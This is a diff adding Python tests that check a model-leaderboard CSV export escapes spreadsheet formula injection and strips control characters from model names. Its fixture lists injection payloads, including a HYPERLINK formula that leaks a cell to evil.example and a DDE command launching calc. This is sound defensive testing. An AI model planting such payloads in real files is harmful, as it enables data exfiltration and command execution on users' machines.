@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 
@@ -77,3 +78,59 @@ def test_parquet_keeps_types_and_the_document_fields(votes: PairwiseData) -> Non
 def test_unknown_format_is_refused(votes: PairwiseData) -> None:
     with pytest.raises(ValueError, match="'xlsx'"):
         leaderboard_bytes(fit_leaderboard(votes).to_dict(), "xlsx")  # type: ignore[arg-type]
+
+
+#: Model names a spreadsheet would run as formulas, or that hide control characters
+#: (issue 31), and the cells the CSV must hold for them.
+HOSTILE = {
+    '=HYPERLINK("http://evil.example/?"&A1,"click me")': (
+        '\'=HYPERLINK("http://evil.example/?"&A1,"click me")'
+    ),
+    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
+    "@SUM(1)": "'@SUM(1)",
+    "-2+3": "'-2+3",
+    "\t=1+1": "'=1+1",  # the tab is removed, and what follows still escaped
+    "\r=1+1": "'=1+1",
+    "  =1+1": "'  =1+1",
+    "\x00=cmd": "'=cmd",
+    "nul\x00model": "nulmodel",
+    "bell\x07and\x1bescape\x7f\x85": "bellandescape",
+    "line\nbreak": "linebreak",
+    "\uff1dSUM(1)": "'\uff1dSUM(1)",
+    "gpt-4o": "gpt-4o",
+    "007": "007",
+}
+
+
+def _hostile_board() -> dict[str, object]:
+    counts = {"battles": 10, "wins": 4, "losses": 5, "ties": 1}
+    rows = [
+        {"model": name, "rating": -10.0 - i, "lower": -20.5 - i, "upper": -0.25, "rank": i + 1}
+        | counts
+        for i, name in enumerate(HOSTILE)
+    ]
+    provisional = [{"model": "=1+2", "battles": 2, "wins": 1, "losses": 1, "ties": 0}]
+    return {"method": "bt", "models": rows, "min_votes": 5, "provisional": provisional}
+
+
+def test_csv_text_cells_cannot_run_as_formulas() -> None:
+    text = leaderboard_bytes(_hostile_board(), "csv").decode("utf-8")
+    assert "\x00" not in text
+    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert len(rows) == len(HOSTILE) + 1  # no row split by a line break in a name
+    cells = [row[header.index("model")] for row in rows]
+    assert cells == [*HOSTILE.values(), "'=1+2"]
+    for row in rows:  # only text cells are escaped: no cell but the model's starts with '
+        assert not any(cell.startswith("'") for cell in row[1:]), row
+
+
+def test_csv_negative_numbers_stay_numbers() -> None:
+    back = pd.read_csv(io.BytesIO(leaderboard_bytes(_hostile_board(), "csv")))
+    assert back["rating"].dtype == np.float64
+    assert back["rating"].tolist()[:3] == [-10.0, -11.0, -12.0]
+    assert back["lower"].iloc[0] == -20.5 and back["upper"].iloc[0] == -0.25
+
+
+def test_parquet_keeps_the_names_exactly() -> None:
+    table = pq.read_table(io.BytesIO(leaderboard_bytes(_hostile_board(), "parquet")))
+    assert table.column("model").to_pylist() == [*HOSTILE, "=1+2"]
